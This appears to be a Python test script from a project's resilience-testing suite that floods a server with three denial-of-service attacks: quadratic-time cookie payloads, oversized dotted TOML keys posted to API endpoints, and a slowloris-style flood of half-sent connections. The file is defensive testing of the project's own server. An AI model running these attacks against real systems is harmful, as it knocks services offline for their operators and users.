"""Requests made to stop the house: `python -m tests.campaign.attackers NAME ADDRESS SECONDS`."""

import asyncio
import contextlib
import itertools
import json
import os
import sys


async def long_cookies(address: str) -> None:
    """Cookies that some parsers read in quadratic time, some longer than a head may be."""
    for size in itertools.cycle((3_500, 15_000, 60_000)):
        cookie = 'a="' + r"\\" * (size // 2) + '"'
        await exchange(address, f"GET /api/site HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\n\r\n")


async def slow_toml(address: str) -> None:
    """Keys of thousands of parts, to whoever reads TOML."""
    for size in itertools.cycle((2_000, 20_000, 60_000)):
        text = ".".join("a" * size) + "=1"
        calls = (
            ("/api/race_room/read", {"files": {"races/mine.toml": text}}),
            (
                "/api/packs/check",
                {"game": "homestretch", "pack": {"name": "x", "files": {"cards.toml": text}}},
            ),
        )
        for path, body in calls:
            await post(address, path, json.dumps(body))


async def half_requests(address: str) -> None:
    """Hundreds of connections that send half a request and wait."""
    host, _, port = address.partition(":")
    for _ in itertools.count():
        lines = []
        for _ in range(325):
            with contextlib.suppress(OSError):
                lines.append(await asyncio.open_connection(host, int(port)))
                lines[-1][1].write(b"GET / HTTP/1.1\r\nHost: x\r\n")
        await asyncio.sleep(1.0)
        for _, writer in lines:
            writer.close()


ATTACKS = {each.__name__: each for each in (long_cookies, slow_toml, half_requests)}

PAUSE = 0.04
"""Seconds from one request to the next of each: 200 a second in all, about 40 Mbit of cookies.

Without a pause any flood of requests keeps the one core of the server busy, whatever they hold.
"""

AT_ONCE = 8
"""How often each attack goes on side by side: 2,600 half requests at a time, for example."""


async def post(address: str, path: str, body: str) -> None:
    await exchange(
        address,
        f"POST {path} HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n{body}",
    )


async def exchange(address: str, request: str) -> None:
    """Send a request and take the beginning of its answer, if one comes."""
    await asyncio.sleep(PAUSE)
    host, _, port = address.partition(":")
    with contextlib.suppress(OSError, TimeoutError):
        reader, writer = await asyncio.open_connection(host, int(port))
        try:
            async with asyncio.timeout(10):
                writer.write(request.encode())
                await reader.read(100)
        finally:
            writer.close()


async def attack(name: str, address: str, seconds: float) -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*(ATTACKS[name](address) for _ in range(AT_ONCE)))


if __name__ == "__main__":
    os.nice(10)  # it stands for another machine
    asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))
